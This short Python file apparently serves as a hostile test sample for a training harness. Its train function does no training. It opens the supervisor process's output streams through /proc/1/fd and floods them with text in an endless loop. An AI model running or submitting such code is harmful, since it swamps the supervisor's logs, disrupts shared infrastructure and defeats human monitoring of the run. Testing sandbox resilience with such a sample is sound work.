"""Floods every stream that it can reach, the supervisor's own among them; nobody reads what the engine passes on."""

import contextlib
import os


def train(model, data, context):
    streams = [1, 2]
    for number in (1, 2):
        with contextlib.suppress(OSError):
            streams.append(os.open(f"/proc/1/fd/{number}", os.O_WRONLY | os.O_NONBLOCK))
    print("streams", len(streams), flush=True)
    while True:
        for stream in streams:
            with contextlib.suppress(OSError):
                os.write(stream, b"flood\n" * 8192)
